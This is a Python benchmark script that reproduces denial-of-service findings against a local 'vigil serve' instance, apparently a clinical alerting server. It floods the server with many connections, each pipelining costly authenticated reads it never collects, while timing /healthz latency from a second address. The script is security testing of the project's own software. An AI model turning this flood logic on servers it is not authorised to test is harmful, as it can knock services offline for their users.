#!/usr/bin/env python3
"""AB3 and AC2 reproduction: one token, C connections each pipelining P
costly reads (GET PATH: by default /api/v1/events?after=0&limit=1000; AC2:
/api/v1/visits/1/fhir, /api/v1/alerts/log?from=2020-01-01&limit=1000) and
reading nothing, closed after 0.5 s and reopened, for S seconds; meanwhile
/healthz from another address (127.0.0.2) every 100 ms: its latencies
(median, max) in ms, and the load average beside them.
usage: bench/event_pages_flood.py PORT TOKEN [C P S [PATH]]  (defaults 64 16 8)

The server: `vigil serve` with a log of some 400 events (one page of
limit=1000 is then ~50-80 KB), TOKEN a nurse's session token. The figures
of docs/security.md AB3 were taken so, on this machine (2 cores, shared)."""
import socket, sys, threading, time, statistics
port, token = int(sys.argv[1]), sys.argv[2]
C, P, S = (int(x) for x in (sys.argv[3:6] if len(sys.argv) > 5 else (64, 16, 8)))
path = sys.argv[6] if len(sys.argv) > 6 else "/api/v1/events?after=0&limit=1000"
req = ("GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\n"
       "Authorization: Bearer %s\r\n\r\n" % (path, token)).encode() * P
stop = time.time() + S
def attacker():
    while time.time() < stop:
        try:
            s = socket.create_connection(("127.0.0.1", port))
            s.sendall(req)
            time.sleep(0.5)
            s.close()
        except OSError:
            time.sleep(0.05)
ts = [threading.Thread(target=attacker) for _ in range(C)]
for t in ts: t.start()
lat = []
time.sleep(0.5)
while time.time() < stop:
    t0 = time.time()
    try:
        s = socket.create_connection(("127.0.0.1", port), source_address=("127.0.0.2", 0), timeout=30)
        s.sendall(b"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
        data = b""
        while b"\r\n\r\n" not in data:
            d = s.recv(4096)
            if not d: break
            data += d
        s.close()
        lat.append((time.time() - t0) * 1000)
    except OSError as e:
        print("healthz:", e)
    time.sleep(0.1)
for t in ts: t.join()
print("healthz from another address while %d x %d pipelined %s: n=%d median %.0f ms, max %.0f ms; load %s" %
      (C, P, path, len(lat), statistics.median(lat) if lat else -1, max(lat) if lat else -1,
       open("/proc/loadavg").read().split()[0]))
